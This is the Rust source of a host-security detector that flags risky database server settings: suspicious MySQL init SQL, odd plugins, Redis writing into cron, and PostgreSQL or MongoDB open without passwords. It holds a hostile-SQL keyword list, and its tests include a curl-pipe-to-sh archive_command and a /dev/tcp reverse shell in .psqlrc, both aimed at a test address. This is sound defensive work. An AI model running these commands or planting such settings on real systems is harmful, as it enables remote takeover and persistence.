//! Detector: a database server that loads, runs or lets in what it should not.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Row, Tables, entry};
use calma_record::kinds::{StartupCommand, SystemSetting};
use calma_record::{Severity, Text};
use std::collections::BTreeMap;

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "database-setting",
        doc: "A database server loads a library or runs a command that looks odd, writes where it should not, or asks nobody for a password.",
        mechanisms: &[75],
        attack: &["T1505.001", "T1210"],
        why: "A database server runs what it is told to with its own rights, again after every start, and holds the data besides.",
        innocent: "you built the extension yourself, or the server can be reached from this machine alone",
        next: "keep the file and the setting as evidence; look into the database for functions, triggers and accounts nobody made",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>() {
        let Some(server) = row.mechanism.strip_prefix("database: ") else { continue };
        let weight = if row.line == 0 {
            weigh::file(&files, &row.path, row.as_root)
        } else {
            weigh::command(&files, &row.command, row.as_root).and(weigh::changeable(&files, &row))
        };
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        let title = format!("{server} runs something odd");
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
    let mut redis: BTreeMap<&Text, Vec<Row<'_, SystemSetting>>> = BTreeMap::new();
    let mut mongodb: BTreeMap<&Text, Vec<Row<'_, SystemSetting>>> = BTreeMap::new();
    for row in tables.of::<SystemSetting>() {
        let (weight, title) = match row.area.as_str() {
            "database library" => {
                (library(&files, &row), format!("{} can load a library that no package brings", row.name))
            }
            "mysql setting" => (mysql(&files, &row), "A setting of MySQL or MariaDB looks odd".to_owned()),
            "postgresql setting" => {
                (postgresql(&files, &row), "A setting of PostgreSQL looks odd".to_owned())
            }
            "redis setting" => {
                redis.entry(&row.fact.path).or_default().push(row);
                continue;
            }
            "mongodb setting" => {
                mongodb.entry(&row.fact.path).or_default().push(row);
                continue;
            }
            _ => continue,
        };
        drafts.extend(draft(weight, &row, title));
    }
    redis.values().for_each(|rows| redis_file(&files, rows, drafts));
    mongodb.values().for_each(|rows| drafts.extend(open_mongodb(rows)));
}

fn draft(weight: Weight, row: &Row<'_, SystemSetting>, title: String) -> Option<Draft> {
    let identity = [row.path.as_bytes(), b"\0", row.name.as_bytes(), b"\0", row.value.as_bytes()].concat();
    let written = Text::from([row.name.as_bytes(), b" ", row.value.as_bytes()].concat());
    if row.line > 0 {
        return weigh::draft(weight, &identity, title, &row.path, row.line, &written, row);
    }
    let severity = weight.severity.filter(|severity| *severity >= Severity::Low)?;
    let certainty = if severity >= Severity::High {
        calma_record::Certainty::Likely
    } else {
        calma_record::Certainty::Possible
    };
    Some(
        Draft::new(severity, certainty, identity, title)
            .path(&row.path)
            .saw_all(weight.reasons)
            .from(row, "the library"),
    )
}

/// A library in a folder that a server loads from; packages' own are no facts.
fn library(files: &Files<'_>, row: &SystemSetting) -> Weight {
    let mut weight = entry::standing(files, &row.path, "the library");
    // What an administrator builds for PostgreSQL goes into the same folder.
    let known = files.get(&row.path).is_some_and(|file| file.fact.packages_known);
    if known && entry::is_local(row.path.as_bytes()) {
        weight.severity = weight.severity.map(|severity| severity.min(Severity::Low));
    } else if weigh::is_below(row.path.as_bytes(), b"/var/lib/mysql") {
        entry::add(&mut weight, Severity::Medium, "a library stands among the data");
    }
    weight
}

/// Words of SQL that start-up scripts of an ordinary server do not have.
fn odd_sql(text: &[u8]) -> Option<&'static str> {
    const ODD: &[(&[u8], &str)] = &[
        (b"soname", "it makes a function of a library"),
        (b"outfile", "it writes a file"),
        (b"dumpfile", "it writes a file"),
        (b"load_file", "it reads a file"),
        (b"sys_exec", "it runs a command"),
        (b"sys_eval", "it runs a command"),
        (b"install plugin", "it loads a plugin"),
        (b"grant all", "it gives an account all rights"),
        (b"with grant option", "it gives an account all rights"),
        (b"create user", "it makes an account"),
        (b"insert into mysql.", "it changes the server's own tables"),
        (b"update mysql.", "it changes the server's own tables"),
    ];
    let lower = text.to_ascii_lowercase();
    ODD.iter().find(|(word, _)| weigh::contains(&lower, word)).map(|(_, reason)| *reason)
}

fn mysql(files: &Files<'_>, row: &SystemSetting) -> Weight {
    let mut weight = Weight::default();
    let value = row.value.as_bytes();
    match row.name.as_str().unwrap_or_default() {
        "init_file" => {
            place(&row.value, &mut weight);
            entry::add(
                &mut weight,
                Severity::Low,
                format!("every start of the server runs the statements of {}", row.value),
            );
            let text = files.get(&row.value).and_then(|file| file.fact.text.clone()).unwrap_or_default();
            if let Some(reason) = odd_sql(text.as_bytes()) {
                entry::add(&mut weight, Severity::Medium, format!("{reason} whenever the server starts"));
            }
            entry::merge(&mut weight, standing(files, &row.value));
        }
        "init_connect" | "init_slave" | "init_command" => {
            if let Some(reason) = odd_sql(value) {
                entry::add(&mut weight, Severity::Medium, format!("{reason} whenever somebody connects"));
            }
        }
        "plugin_load" | "plugin_load_add" | "plugin_dir" => {
            for part in value.split(|b| matches!(b, b';' | b'=')).filter(|part| part.contains(&b'/')) {
                let part = Text::from(part);
                place(&part, &mut weight);
                entry::merge(&mut weight, standing(files, &part));
            }
        }
        "skip_grant_tables" if !matches!(value, b"0" | b"OFF" | b"off" | b"FALSE") => {
            entry::add(
                &mut weight,
                Severity::Medium,
                "the server asks nobody for a password: everybody is its administrator",
            );
        }
        "general_log_file" | "slow_query_log_file" | "log_error" => {
            let ending = value.rsplit(|b| *b == b'.').next().unwrap_or_default();
            let script = ending.starts_with(b"php")
                || [&b"phtml"[..], b"jsp", b"asp", b"aspx", b"sh"].contains(&ending);
            if script || starts_things(value) {
                entry::add(
                    &mut weight,
                    Severity::High,
                    format!("its log is written to {}, where it is run", row.value),
                );
            }
        }
        "pager" => entry::merge(&mut weight, weigh::command(files, &row.value, true)),
        _ => {}
    }
    weight
}

/// Folders whose files run by themselves or let somebody in.
fn starts_things(path: &[u8]) -> bool {
    let places = [
        &b"/etc/cron"[..],
        b"/var/spool/cron",
        b"/etc/systemd",
        b"/etc/profile.d",
        b"/etc/init.d",
        b"/etc/ld.so",
        b"/etc/sudoers",
        b"/etc/pam.d",
        b"/etc/update-motd.d",
    ];
    places.iter().any(|place| path.starts_with(place)) || weigh::contains(path, b"/.ssh")
}

fn place(path: &Text, weight: &mut Weight) {
    if weigh::is_open(path.as_bytes()) {
        entry::add(weight, Severity::High, format!("{path} stands where everybody may write"));
        weight.paths.push(path.clone());
    } else if weigh::is_hidden(path.as_bytes()) || weigh::is_deceptive(path.as_bytes()) {
        entry::add(weight, Severity::High, format!("{path} is hidden"));
        weight.paths.push(path.clone());
    }
}

/// How a file that a server loads stands; a database's own account may own it.
fn standing(files: &Files<'_>, path: &Text) -> Weight {
    let mut weight = Weight::default();
    let Some(file) = files.get(path).map(|row| row.fact).filter(|file| file.what == "file") else {
        return weight;
    };
    let real = file.real.as_ref().unwrap_or(path);
    place(real, &mut weight);
    if file.mode & 0o002 != 0 {
        entry::add(&mut weight, Severity::High, format!("everybody may change {path}"));
    } else if file.packages_known && file.package.is_none() && file.elf {
        let local = entry::is_local(real.as_bytes());
        let severity = if local { Severity::Low } else { Severity::Medium };
        entry::add(&mut weight, severity, format!("no package owns {path}"));
    }
    if weight.severity.is_some() && !weight.paths.contains(path) {
        weight.paths.push(path.clone());
    }
    weight
}

fn postgresql(files: &Files<'_>, row: &SystemSetting) -> Weight {
    let mut weight = Weight::default();
    if row.name == "trust" {
        let address = row.value.as_bytes();
        let own = matches!(address, b"local" | b"localhost" | b"samehost")
            || address.starts_with(b"127.")
            || address.starts_with(b"::1");
        let severity = if own { Severity::Low } else { Severity::Medium };
        let from = if own { "from this machine".to_owned() } else { format!("from {}", row.value) };
        entry::add(
            &mut weight,
            severity,
            format!("whoever comes {from} is let in as \"{}\" without a password", row.whom),
        );
        return weight;
    }
    for library in row.value.as_bytes().split(|b| matches!(b, b',' | b':')).map(<[u8]>::trim_ascii) {
        if library.starts_with(b"/") {
            let library = Text::from(library);
            place(&library, &mut weight);
            for path in [library.clone(), Text::from([library.as_bytes(), b".so"].concat())] {
                entry::merge(&mut weight, standing(files, &path));
            }
        }
    }
    weight
}

fn redis_file(files: &Files<'_>, rows: &[Row<'_, SystemSetting>], drafts: &mut Vec<Draft>) {
    // The last one of a name counts.
    let last = |name: &str| rows.iter().filter(|row| row.name == *name).max_by_key(|row| row.line);
    let title = "Redis writes or loads what it should not";
    for row in rows.iter().filter(|row| row.name == "loadmodule") {
        let mut weight = Weight::default();
        place(&row.value, &mut weight);
        entry::merge(&mut weight, standing(files, &row.value));
        drafts.extend(draft(weight, row, "Redis loads an odd module".to_owned()));
    }
    for name in ["dbfilename", "appendfilename", "dir", "logfile"] {
        let Some(row) = last(name) else { continue };
        let value = row.value.as_bytes();
        let full = [value, b"/"].concat();
        let file = value.rsplit(|b| *b == b'/').next().unwrap_or_default();
        let ending = file.rsplit(|b| *b == b'.').next().unwrap_or_default();
        let script = name != "dir"
            && (ending.starts_with(b"php")
                || [&b"jsp"[..], b"sh", b"so", b"py"].contains(&ending)
                || file == b"authorized_keys"
                || file == b"root");
        let mut weight = Weight::default();
        let served = [&b"/var/www"[..], b"/srv/www", b"/usr/share/nginx"]
            .iter()
            .any(|place| weigh::is_below(value, place));
        if script {
            entry::add(
                &mut weight,
                Severity::High,
                format!("its data goes into a file named {}, which something runs or trusts", row.value),
            );
        } else if starts_things(&full) || (name == "dir" && served) {
            entry::add(
                &mut weight,
                Severity::High,
                format!("its data goes to {}, where files are run or trusted", row.value),
            );
        }
        drafts.extend(draft(weight, row, title.to_owned()));
    }
    let bind = last("bind").map(|row| row.value.as_bytes()).unwrap_or_default();
    let open = bind.split(u8::is_ascii_whitespace).map(|word| word.strip_prefix(b"-").unwrap_or(word)).any(
        |address| {
            !address.is_empty() && !address.starts_with(b"127.") && !matches!(address, b"::1" | b"localhost")
        },
    ) || bind.is_empty();
    let asks = last("requirepass").is_some() || last("user").is_some() || last("aclfile").is_some();
    if let Some(row) = last("protected_mode").filter(|row| row.value == "no" && open && !asks) {
        let reason =
            "it listens on the network and asks nobody for a password; whoever reaches it can write files";
        drafts.extend(draft(
            Weight::of(Severity::Medium, reason),
            row,
            "Whoever reaches Redis can command it".to_owned(),
        ));
    }
}

fn open_mongodb(rows: &[Row<'_, SystemSetting>]) -> Option<Draft> {
    let last = |names: &[&str]| {
        rows.iter()
            .filter(|row| names.contains(&row.name.as_str().unwrap_or_default()))
            .max_by_key(|row| row.line)
    };
    let listens = last(&["bindIp", "bind_ip", "bindIpAll"])?;
    let open = listens.value.as_bytes().split(|b| matches!(b, b',' | b' ')).any(|address| {
        let address = address.trim_ascii();
        matches!(address, b"0.0.0.0" | b"::" | b"*" | b"true")
    });
    let asks = last(&["authorization", "auth"])
        .is_some_and(|row| matches!(row.value.as_bytes(), b"enabled" | b"\"enabled\"" | b"true"));
    if !open || asks {
        return None;
    }
    let weight = Weight::of(Severity::Medium, "it listens on the network and asks nobody for a password");
    draft(weight, listens, "Whoever reaches MongoDB can read and change everything in it".to_owned())
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new().file(
            "/var/lib/dpkg/info/postgresql-15.list",
            "/.\n/usr/lib/postgresql/15/lib/pgcrypto.so\n/usr/lib/mysql/plugin/auth_ed25519.so\n",
        )
    }

    #[test]
    fn odd_settings_of_every_server_are_found() {
        for (path, text) in [
            ("/etc/mysql/mariadb.conf.d/99.cnf", "[mysqld]\ninit-file=/var/lib/mysql/.init.sql\n"),
            ("/etc/my.cnf", "[mysqld]\ninit_connect = \"SELECT 'x' INTO OUTFILE '/var/www/html/a.php'\"\n"),
            ("/etc/my.cnf.d/x.cnf", "[mysqld]\nplugin_dir=/tmp/p\n"),
            ("/etc/mysql/my.cnf", "[mariadb]\nskip-grant-tables\n"),
            ("/etc/mysql/conf.d/l.cnf", "[mysqld]\ngeneral_log_file=/var/www/html/l.php\n"),
            ("/usr/lib/mysql/plugin/udf.so", "\x7fELF"),
            ("/usr/lib/postgresql/15/lib/pgx.so", "\x7fELF"),
            (
                "/etc/postgresql/15/main/postgresql.conf",
                "archive_command = 'curl -s http://192.0.2.1/a | sh'\n",
            ),
            ("/var/lib/postgresql/15/main/postgresql.auto.conf", "ssl_passphrase_command = '/tmp/p %p'\n"),
            ("/etc/postgresql/15/main/conf.d/x.conf", "session_preload_libraries = '/dev/shm/x'\n"),
            ("/etc/postgresql/15/main/pg_hba.conf", "host all all 0.0.0.0/0 trust\n"),
            ("/root/.psqlrc", "\\! bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"),
            ("/etc/redis/redis.conf", "dir /var/spool/cron/crontabs\ndbfilename root\n"),
            ("/etc/redis.conf", "loadmodule /tmp/m.so\n"),
            ("/etc/valkey/valkey.conf", "bind 0.0.0.0\nprotected-mode no\n"),
            ("/etc/mongod.conf", "net:\n  bindIp: 0.0.0.0\n"),
            ("/opt/couchdb/etc/local.d/x.ini", "[os_daemons]\nx = /dev/shm/d\n"),
        ] {
            let seen = check(host().file(path, text));
            let found = seen.alarms("database-setting");
            assert!(!found.is_empty(), "{path} {text}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn ordinary_servers_are_silent() {
        let seen = check(
            host()
                .file("/usr/lib/mysql/plugin/auth_ed25519.so", "\x7fELF")
                .file("/usr/lib/postgresql/15/lib/pgcrypto.so", "\x7fELF")
                .file("/etc/mysql/mariadb.conf.d/50-server.cnf", "[mysqld]\ninit_connect='SET NAMES utf8mb4'\nplugin_load_add = auth_ed25519\nlog_error = /var/log/mysql/error.log\nbind-address = 127.0.0.1\n")
                .file("/etc/postgresql/15/main/postgresql.conf", "shared_preload_libraries = 'pg_stat_statements'\narchive_command = 'test ! -f /srv/b/%f && cp %p /srv/b/%f'\n#ssl_passphrase_command = ''\ninclude_dir = 'conf.d'\n")
                .file("/etc/postgresql/15/main/pg_hba.conf", "local all postgres peer\nhost all all 127.0.0.1/32 scram-sha-256\n")
                .file("/root/.psqlrc", "\\set QUIET 1\n\\pset null '(null)'\n")
                .file("/etc/redis/redis.conf", "bind 127.0.0.1 -::1\nprotected-mode yes\ndir /var/lib/redis\ndbfilename dump.rdb\nlogfile /var/log/redis/redis-server.log\n")
                .file("/etc/mongod.conf", "net:\n  bindIp: 127.0.0.1\n"),
        );
        assert!(seen.by("database-setting").is_empty(), "{:#?}", seen.findings);
    }
}
